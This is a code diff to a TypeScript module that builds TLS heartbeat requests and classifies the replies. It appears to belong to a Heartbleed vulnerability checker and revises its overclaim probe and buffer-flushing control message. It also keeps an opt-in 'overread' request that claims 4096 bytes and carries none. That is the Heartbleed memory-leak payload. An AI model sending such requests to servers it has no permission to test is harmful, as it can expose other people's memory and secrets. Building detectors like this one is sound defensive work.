@@ -2,13 +2,13 @@
  * The heartbeat messages of the Heartbleed pack and the recognition of what comes back (RFC 6520 section 4).
  *
  * - `control`: a well-formed request. Every stack with heartbeats answers it.
- * - `probeEmpty`: `01 00 00`, claims nothing and carries no padding. Only a missing length check answers; it can
- *   return no memory at all.
- * - `probeOverclaim`: carries 8 bytes and claims 9, without padding. Stacks that are merely lenient about padding refuse
- *   it. The ninth byte lies inside the region of OpenSSL's read buffer that our own control has just filled, so a
- *   vulnerable server hands our own byte back to us.
- * - `bigControl`: well-formed, but its answer is larger than the 4096-byte buffer in which OpenSSL holds its writes
- *   until the handshake is done. It flushes the answers waiting there and is itself the sign of life after the probes.
+ * - `overclaim`: carries 24 bytes and claims 25, without padding. A sound stack discards it; stacks that are merely
+ *   lenient about padding (GnuTLS before April 2014) refuse it too. It is long enough to get past a repair that only
+ *   looks whether a message could hold any payload and padding at all. The 25th byte lies inside the region of OpenSSL's read buffer that our
+ *   own control has just filled, so a vulnerable server hands our own byte back to us.
+ * - `bigControl`: well-formed, with an answer of more than 8192 bytes. OpenSSL holds its writes back in a buffer of 4096
+ *   bytes until the handshake is done; an answer of that size fills and flushes the buffer and passes whole
+ *   (crypto/bio/bf_buff.c). It brings out the answers before it and is itself the sign of life after the probe.
  * - `overread` (rung 3, opt-in): claims 4096 bytes and carries none.
  */
 
@@ -20,10 +20,11 @@ const RESPONSE = 2;
 /** RFC 6520 section 4: padding of at least 16 bytes, in requests and in answers. */
 const PADDING = 16;
 
-const CONTROL_PAYLOAD = 24;
-export const OVERCLAIM_PAYLOAD = 8;
-/** 5 + 3 + 4080 + 16 bytes on the wire: just above the 4096 that OpenSSL buffers (crypto/bio/bf_buff.c). */
-export const BIG_PAYLOAD = 4080;
+/** Longer than the probe's claim, so that the byte beyond the probe is one of the control's. */
+const CONTROL_PAYLOAD = 32;
+export const OVERCLAIM_PAYLOAD = 24;
+/** Twice what OpenSSL buffers: with less, the end of the answer would stay behind. */
+export const BIG_PAYLOAD = 8192;
 /** The smallest round claim whose answer passes the 4096-byte buffer. */
 const OVERREAD_CLAIM = 4096;
 /** No answer that we recognise is longer: bytes beyond need not be kept even for a moment. */
@@ -35,8 +36,7 @@ export const MARKER_BYTES = CONTROL_PAYLOAD + OVERCLAIM_PAYLOAD;
 /** Heartbeat message bodies, without record headers. */
 export interface Questions {
   readonly control: Uint8Array;
-  readonly probeEmpty: Uint8Array;
-  readonly probeOverclaim: Uint8Array;
+  readonly overclaim: Uint8Array;
   readonly bigControl: Uint8Array;
   readonly overread: Uint8Array;
 }
@@ -50,13 +50,7 @@ export function questions(marker: Uint8Array): Questions {
   const controlPayload = marker.subarray(0, CONTROL_PAYLOAD);
   return {
     control: encodeHeartbeat(REQUEST, CONTROL_PAYLOAD, controlPayload, ZEROS.subarray(0, PADDING)),
-    probeEmpty: encodeHeartbeat(REQUEST, 0, NONE, NONE),
-    probeOverclaim: encodeHeartbeat(
-      REQUEST,
-      OVERCLAIM_PAYLOAD + 1,
-      marker.subarray(CONTROL_PAYLOAD, MARKER_BYTES),
-      NONE,
-    ),
+    overclaim: encodeHeartbeat(REQUEST, OVERCLAIM_PAYLOAD + 1, marker.subarray(CONTROL_PAYLOAD, MARKER_BYTES), NONE),
     bigControl: encodeHeartbeat(REQUEST, BIG_PAYLOAD, controlPayload, ZEROS),
     overread: encodeHeartbeat(REQUEST, OVERREAD_CLAIM, NONE, NONE),
   };
@@ -75,10 +69,8 @@ export function classifyAnswer(body: Uint8Array, length: number, asked: Question
   if (claimed === OVERREAD_CLAIM && length > 3 + PADDING) return "overread_answer";
   if (length < 3 + claimed + PADDING) return "other";
   switch (claimed) {
-    case 0:
-      return "empty_answer";
     case OVERCLAIM_PAYLOAD + 1:
-      return carries(body, asked.probeOverclaim, OVERCLAIM_PAYLOAD) ? "overclaim_answer" : "other";
+      return carries(body, asked.overclaim, OVERCLAIM_PAYLOAD) ? "overclaim_answer" : "other";
     case CONTROL_PAYLOAD:
       return carries(body, asked.control, CONTROL_PAYLOAD) ? "control_answer" : "other";
     case BIG_PAYLOAD:
